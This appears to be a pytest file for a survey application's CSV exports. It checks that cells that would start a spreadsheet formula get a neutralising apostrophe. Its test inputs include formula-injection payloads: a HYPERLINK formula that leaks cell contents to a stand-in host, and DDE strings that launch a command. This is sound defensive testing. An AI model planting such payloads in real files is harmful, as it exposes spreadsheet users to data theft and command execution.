"""Files a spreadsheet may open neutralise cells that would run as a formula (OWASP's rule: a
leading apostrophe), in one place for every writer (survey_app/domain/exports.py)."""
from __future__ import annotations

import csv
import io
from datetime import UTC

import pytest
from sqlalchemy import select

from survey_app.domain import exports, invitations
from survey_app.domain.complaints import bad_rows_csv, check_export, read_complaints
from survey_app.extensions import db
from tests import factories
from tests.respondent_setup import HEADER, SECRET, load_roster, world

HOSTILE = ['=HYPERLINK("http://x/?"&A1,"x")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_would_start_a_formula_gets_an_apostrophe(text):
    assert exports.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Budi Santoso", "", None, 12, -8.33, "-8.33", "+62 812",
                                   "+62", "1e5", "-0,5", "O'Brien"])
def test_numbers_and_plain_text_are_left_alone(value):
    expected = "'+62 812" if value == "+62 812" else value  # a phone with a space is text
    assert exports.safe_cell(value) == expected


def test_the_invitations_csv_neutralises_a_hostile_name(ctx):
    world()
    round_ = db.session.scalar(select(factories.Round))
    load_roster(round_, HEADER + 'R9,"=HYPERLINK(""http://x/?""&A1,""x"")",rt,3171010001,1,2,,\n')
    db.session.flush()
    data = invitations.export_csv(invitations.export_rows(round_, "http://127.0.0.1", SECRET))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][1] == "'=HYPERLINK(\"http://x/?\"&A1,\"x\")"
    assert rows[1][5].startswith("http://127.0.0.1/s/")  # the link itself is untouched


def test_the_bad_rows_file_of_a_complaint_export_neutralises_its_cells(ctx):
    factories.small_tree()
    source = ("complaint_id,channel,category,area_code,unit_code,status,reported_at,"
              "first_response_at,resolved_at\n"
              "=cmd|x,JAKI,@evil,9999999999,,Selesai,2026-04-01 00:00,,2026-04-02 00:00\n")
    table = read_complaints(source.encode(), "c.csv")
    checked = check_export(table)
    rows = list(csv.reader(io.StringIO(bad_rows_csv(table, checked))))
    assert rows[1][2] == "'=cmd|x" and rows[1][4] == "'@evil"


def test_the_results_csv_neutralises_names_and_keeps_numbers(ctx):
    """An official named like a formula is neutralised; a negative change stays a number."""
    from datetime import date, datetime

    from survey_app.domain import results

    utc = UTC
    areas = factories.small_tree()
    q = factories.regulation_questionnaire()
    post = factories.position("lurah", areas["3171010001"])
    official = factories.official("19700101", "=cmd|' /C calc'!A0")
    factories.appoint(official, post, date(2025, 1, 1))
    first = factories.round_("2026-Q1", state="closed",
                             opens=datetime(2025, 12, 31, 17, tzinfo=utc),
                             closes=datetime(2026, 3, 31, 17, tzinfo=utc), questionnaire=q)
    second = factories.round_("2026-Q2", state="closed",
                              opens=datetime(2026, 3, 31, 17, tzinfo=utc),
                              closes=datetime(2026, 6, 30, 17, tzinfo=utc), questionnaire=q)
    for round_, value in ((first, 4), (second, 3)):
        for _ in range(3):
            factories.response(round_, post, "rt", {f"U{i}": value for i in range(1, 10)},
                               official=official)
    db.session.flush()
    document = results.results_document(second, now=datetime(2026, 8, 1, tzinfo=utc))
    rows = list(csv.DictReader(io.StringIO(results.to_csv(document))))
    assert rows[0]["official_name"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["change"] == "-25.0"  # 75 - 100: a number, left as it is
